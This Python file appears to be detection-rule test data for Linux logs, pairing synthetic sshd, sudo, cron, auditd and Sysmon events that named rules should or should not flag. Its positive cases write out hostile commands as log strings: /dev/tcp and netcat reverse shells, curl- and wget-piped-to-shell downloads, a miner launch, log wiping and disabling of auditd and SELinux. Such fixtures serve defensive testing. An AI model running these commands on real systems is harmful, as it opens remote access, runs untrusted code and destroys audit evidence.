"""Linux: sshd, sudo, accounts, auditd, Sysmon for Linux, cron, scanners."""
# ruff: noqa: E501  (a line of a log is one line)

from tests.shipped_rules.lines import audited, audited_file, syslog, sysmon_linux


def refused(user: str = "an", ip: str = "203.0.113.7", s: float = 0) -> str:
    """SSH refused a password."""
    return syslog("sshd[12]", f"Failed password for {user} from {ip} port 4022 ssh2", s=s)


def let_in(user: str = "an", ip: str = "203.0.113.7", s: float = 0, by: str = "password") -> str:
    """SSH let somebody in."""
    return syslog("sshd[12]", f"Accepted {by} for {user} from {ip} port 4022 ssh2", s=s)


def cron(command: str) -> list[str]:
    """Cron ran something."""
    return [syslog("CRON[77]", f"(root) CMD ({command})")]


def shell(*words: str, exe: str = "/usr/bin/bash") -> list[str]:
    """A shell was started by root, from a terminal."""
    return audited(*words, exe=exe)


LINUX: dict[str, tuple[list[list[str]], list[list[str]]]] = {
    "SSH refused somebody": (
        [[refused()], [syslog("sshd[1]", "Failed none for invalid user x from 203.0.113.7 port 1 ssh2")]],
        [[let_in()], [syslog("sudo", "Failed password for an from 203.0.113.7")]],
    ),
    "SSH let somebody in": ([[let_in(by="publickey")]], [[refused()]]),
    "Passwords are guessed over SSH": (
        [[refused(s=n * 30) for n in range(10)]],
        [[refused(s=n * 30) for n in range(9)], [refused(s=n * 40) for n in range(10)],
         [refused(ip=f"203.0.113.{n}", s=n) for n in range(10)]],
    ),
    "SSH refused somebody from outside": (
        [[refused()], [refused(ip="2001:db8::7")]],
        [[refused(ip="10.0.0.7")], [refused(ip="fd00::7")], [let_in()]],
    ),
    "Passwords are guessed over SSH, slowly": (
        [[refused(s=n * 300) for n in range(60)]],
        [[refused(s=n * 300) for n in range(59)], [refused(s=n * 370) for n in range(60)],
         [refused(ip="10.0.0.7", s=n * 300) for n in range(70)]],
    ),
    "One address tries many accounts over SSH": (
        [[refused(f"invalid user u{n}", s=n * 60) for n in range(8)]],
        [[refused(f"u{n % 7}", s=n * 40) for n in range(9)], [refused(f"u{n}", s=n * 120) for n in range(8)]],
    ),
    "Account is tried from many addresses over SSH": (
        [[refused("an", f"203.0.113.{n}", n * 120) for n in range(20)]],
        [[refused("an", f"203.0.113.{n}", n * 120) for n in range(19)],
         [refused(f"u{n}", f"203.0.113.{n}", n * 120) for n in range(25)]],
    ),
    "SSH password was guessed": (
        [[*(refused(s=n) for n in range(10)), let_in(s=60)]],
        [
            [let_in(), *(refused(s=n) for n in range(1, 11))],
            [*(refused(s=n) for n in range(10)), let_in(s=60, ip="203.0.113.8")],
            [*(refused(s=n) for n in range(10)), let_in(s=1800)],
            [*(refused(s=n) for n in range(3)), let_in(s=60)],
        ],
    ),
    "Root signs in by password over SSH": ([[let_in("root")]], [[let_in("root", by="publickey")], [let_in("an")]]),
    "Account with the rights of root, or in the group that may have them": (
        [
            [syslog("useradd[7]", "new user: name=tro, UID=0, GID=0, home=/, shell=/bin/sh")],
            [syslog("usermod[7]", "add 'tro' to group 'sudo'")],
        ],
        [
            [syslog("useradd[7]", "new user: name=tro, UID=1002, GID=1002, home=/home/tro, shell=/bin/sh")],
            [syslog("usermod[7]", "add 'tro' to group 'in-an'")],
        ],
    ),
    "Somebody without the right to it used sudo": (
        [[syslog("sudo", "an : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/cat /etc/shadow")]],
        [[syslog("sudo", "an : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls")]],
    ),
    "Web server starts a command shell (Linux)": (
        [
            audited("sh", "-c", "id", exe="/usr/bin/dash", euid=33),
            [sysmon_linux(1, Image="/usr/bin/bash", CommandLine="bash -c id", ParentImage="/usr/sbin/nginx")],
            [sysmon_linux(1, Image="/usr/bin/curl", CommandLine="curl http://203.0.113.9/a", User="www-data")],
        ],
        [
            audited("sh", "-c", "id", exe="/usr/bin/dash"),
            audited("php", "a.php", exe="/usr/bin/php8.2", euid=33),
            [sysmon_linux(1, Image="/usr/bin/bash", CommandLine="bash", ParentImage="/usr/sbin/sshd", User="an")],
        ],
    ),
    "Web server writes a script (Linux)": (
        [
            audited_file("/var/www/html/anh/x.php", exe="/usr/sbin/php-fpm8.2", euid=33),
            [sysmon_linux(11, Image="/usr/lib/jvm/bin/java", TargetFilename="/opt/tomcat/webapps/ROOT/tomcatwar.jsp")],
        ],
        [
            audited_file("/var/www/html/anh/x.png", exe="/usr/sbin/php-fpm8.2", euid=33),
            audited_file("/var/www/html/anh/x.php", exe="/usr/bin/dpkg"),
            audited_file("/var/www/html/cache/x.php", exe="/usr/sbin/php-fpm8.2", euid=33),
        ],
    ),
    "Web server changes the front page (Linux)": (
        [
            audited_file("/var/www/html/index.html", exe="/usr/sbin/apache2", euid=33),
            audited_file("/var/www/html/index.php", exe="/usr/bin/dash", euid=48),
        ],
        [
            audited_file("/var/www/html/index.html", exe="/usr/bin/rsync", euid=1001),
            audited_file("/var/www/html/index.html", exe="/usr/bin/bash", euid=1001),
            audited_file("/var/www/html/tin.html", exe="/usr/sbin/apache2", euid=33),
        ],
    ),
    "Shell is handed to somebody elsewhere (Linux)": (
        [
            shell("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"),
            shell("sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 443 >/tmp/f"),
        ],
        [shell("bash", "-c", "ls /dev"), shell("nc", "-zv", "192.0.2.1", "443", exe="/usr/bin/nc"), shell("mkfifo", "/tmp/f")],
    ),
    "Program is loaded from elsewhere and run at once (Linux)": (
        [
            shell("sh", "-c", "curl -s http://203.0.113.9/a | bash"),
            shell("./x", "-o", "stratum+tcp://be.example:3333", exe="/tmp/x"),
        ],
        [shell("curl", "-O", "https://phan-mem.example/a.tar.gz", exe="/usr/bin/curl"), shell("sh", "-c", "cat a.sh | sh")],
    ),
    "Scheduled command loads a program or opens a shell (cron)": (
        [cron("wget -q -O- http://203.0.113.9/a | sh"), cron("/dev/shm/x"), cron("echo aWQ= | base64 -d | sh")],
        [cron("run-parts /etc/cron.hourly"), cron("curl -fsS https://giam-sat.example/ping")],
    ),
    "File that keeps a way in was written (Linux)": (
        [
            audited_file("/root/.ssh/authorized_keys", exe="/usr/bin/bash"),
            audited_file("/etc/cron.d/x", exe="/usr/bin/cp"),
            audited_file("/etc/ld.so.preload", exe="/tmp/x"),
        ],
        [
            audited_file("/etc/cron.d/goi", exe="/usr/bin/dpkg"),
            audited_file("/root/.ssh/known_hosts", exe="/usr/bin/ssh"),
        ],
    ),
    "Traces are wiped (Linux)": (
        [
            shell("rm", "-f", "/var/log/auth.log", exe="/usr/bin/rm"),
            shell("bash", "-c", "unset HISTFILE; history -c"),
            shell("shred", "-u", "/var/log/wtmp", exe="/usr/bin/shred"),
        ],
        [shell("rm", "-f", "/tmp/a.log", exe="/usr/bin/rm"), shell("tail", "/var/log/auth.log", exe="/usr/bin/tail")],
    ),
    "Watching or protection is switched off (Linux)": (
        [
            shell("systemctl", "stop", "auditd", exe="/usr/bin/systemctl"),
            shell("service", "rsyslog", "stop", exe="/usr/sbin/service"),
            shell("setenforce", "0", exe="/usr/sbin/setenforce"),
        ],
        [
            shell("systemctl", "restart", "auditd", exe="/usr/bin/systemctl"),
            shell("systemctl", "stop", "in-an", exe="/usr/bin/systemctl"),
            shell("service", "rsyslog", "status", exe="/usr/sbin/service"),
        ],
    ),
    "Virus scanner found something (ClamAV)": (
        [[syslog("clamd[9]", "/srv/tep/x.doc: Doc.Thu-1 FOUND")]],
        [[syslog("clamd[9]", "/srv/tep/x.doc: OK")], [syslog("ung-dung", "/srv/tep/x.doc: Doc.Thu-1 FOUND")]],
    ),
    "Machine is flooded with connections, by its own word (Linux)": (
        [
            [syslog("kernel", "[1.2] TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.")],
            [syslog("kernel", "[1.2] nf_conntrack: nf_conntrack: table full, dropping packet")],
        ],
        [[syslog("kernel", "[1.2] TCP: eth0: link up")]],
    ),
    "Web server has no room left, by its own word (Apache)": (
        [[syslog("apache2[7]", "[mpm_event:error] AH00484: server reached MaxRequestWorkers setting, consider raising it")]],
        [[syslog("apache2[7]", "[mpm_event:notice] AH00489: configured -- resuming normal operations")]],
    ),
    "Web server has no room left, by its own word (nginx)": (
        [[syslog("nginx", "2026/04/30 01:00:00 [alert] 7#7: 1024 worker_connections are not enough")]],
        [[syslog("nginx", "2026/04/30 01:00:00 [notice] 7#7: signal process started")]],
    ),
}  # fmt: skip
